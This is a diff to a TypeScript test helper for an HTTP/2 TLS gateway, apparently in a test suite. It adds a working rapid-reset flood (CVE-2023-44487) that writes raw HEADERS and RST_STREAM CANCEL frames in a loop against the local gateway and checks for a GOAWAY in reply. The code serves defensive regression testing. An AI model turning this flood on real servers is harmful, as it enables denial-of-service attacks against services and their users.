@@ -2,9 +2,10 @@
 // self-signed pair for "localhost" in a temporary directory, and small HTTP/2
 // and HTTP/1.1-over-TLS clients that trust it. Clients connect to 127.0.0.1
 // with SNI "localhost", so no resolver is involved.
-import { connect as connectHttp2, type ClientHttp2Session, type IncomingHttpHeaders, type IncomingHttpStatusHeader, type OutgoingHttpHeaders } from 'node:http2';
+import { connect as connectHttp2, type ClientSessionOptions, type ClientHttp2Session, type IncomingHttpHeaders, type IncomingHttpStatusHeader, type OutgoingHttpHeaders } from 'node:http2';
 import { request as httpsRequest } from 'node:https';
 import type { IncomingHttpHeaders as Http1Headers } from 'node:http';
+import { connect as connectTlsSocket } from 'node:tls';
 import pino from 'pino';
 import { createCertificateStore, type CertificateStore } from '../../../../gateway/tls/certificate-store.ts';
 import { readTlsSettings } from '../../../../gateway/tls/settings.ts';
@@ -32,8 +33,8 @@ export async function startTestTls(): Promise<TestTls> {
   };
 }
 
-export function connectH2(port: number, ca: string): ClientHttp2Session {
-  const session = connectHttp2(`https://127.0.0.1:${port}`, { ca, servername: 'localhost' });
+export function connectH2(port: number, ca: string, options: ClientSessionOptions = {}): ClientHttp2Session {
+  const session = connectHttp2(`https://127.0.0.1:${port}`, { ...options, ca, servername: 'localhost' });
   session.on('error', () => {});
   return session;
 }
@@ -84,4 +85,67 @@ export function https1Request(port: number, ca: string, path: string, headers: R
     req.on('error', reject);
     req.end();
   });
+}
+
+/** An HTTP/2 frame (RFC 9113 §4.1): 9-byte header, then the payload. */
+function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
+  const header = Buffer.alloc(9);
+  header.writeUIntBE(payload.length, 0, 3);
+  header[3] = type;
+  header[4] = flags;
+  header.writeUInt32BE(streamId, 5);
+  return Buffer.concat([header, payload]);
+}
+
+/** HPACK (RFC 7541) literal with an indexed name, never indexed: small, and no table state to keep. */
+function literal(nameIndex: number, value: string): Buffer {
+  // 0001xxxx: never indexed, name index in 4 bits (the static entries used here are < 15); 7-bit length, no Huffman.
+  return Buffer.concat([Buffer.from([0x10 | nameIndex, value.length]), Buffer.from(value)]);
+}
+
+export interface RawFloodResult {
+  /** Error code of the GOAWAY the gateway sent, or null without one. */
+  goawayCode: number | null;
+}
+
+/**
+ * The rapid-reset attack as CVE-2023-44487 describes it, with raw frames (node:http2's
+ * client queues streams behind maxConcurrentStreams; an attacker does not need to):
+ * HEADERS for a new stream, RST_STREAM CANCEL right after, `count` times, in a
+ * few large writes. Resolves when the gateway closes the connection.
+ */
+export function rapidResetFlood(port: number, ca: string, path: string, count: number): Promise<RawFloodResult> {
+  return new Promise((resolve, reject) => {
+    const socket = connectTlsSocket({ host: '127.0.0.1', port, servername: 'localhost', ca, ALPNProtocols: ['h2'] });
+    const received: Buffer[] = [];
+    socket.on('data', (chunk: Buffer) => received.push(chunk));
+    socket.on('error', () => {});
+    socket.on('close', () => resolve({ goawayCode: findGoaway(Buffer.concat(received)) }));
+    socket.once('secureConnect', () => {
+      if (socket.alpnProtocol !== 'h2') return reject(new Error(`ALPN chose ${socket.alpnProtocol}`));
+      // :method GET (2), :scheme https (7) from the static table; :path and :authority as literals.
+      const block = Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, path), literal(1, 'localhost')]);
+      const cancel = Buffer.alloc(4);
+      cancel.writeUInt32BE(0x8);
+      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))]));
+      const batch: Buffer[] = [];
+      for (let i = 0; i < count; i++) {
+        const id = 2 * i + 1;
+        batch.push(frame(0x1, 0x5, id, block), frame(0x3, 0, id, cancel));
+        if (batch.length === 200) socket.write(Buffer.concat(batch.splice(0)));
+      }
+      if (batch.length) socket.write(Buffer.concat(batch));
+    });
+  });
+}
+
+function findGoaway(data: Buffer): number | null {
+  let offset = 0;
+  while (offset + 9 <= data.length) {
+    const length = data.readUIntBE(offset, 3);
+    const type = data[offset + 3];
+    if (type === 0x7 && offset + 9 + 8 <= data.length) return data.readUInt32BE(offset + 9 + 4);
+    offset += 9 + length;
+  }
+  return null;
 }
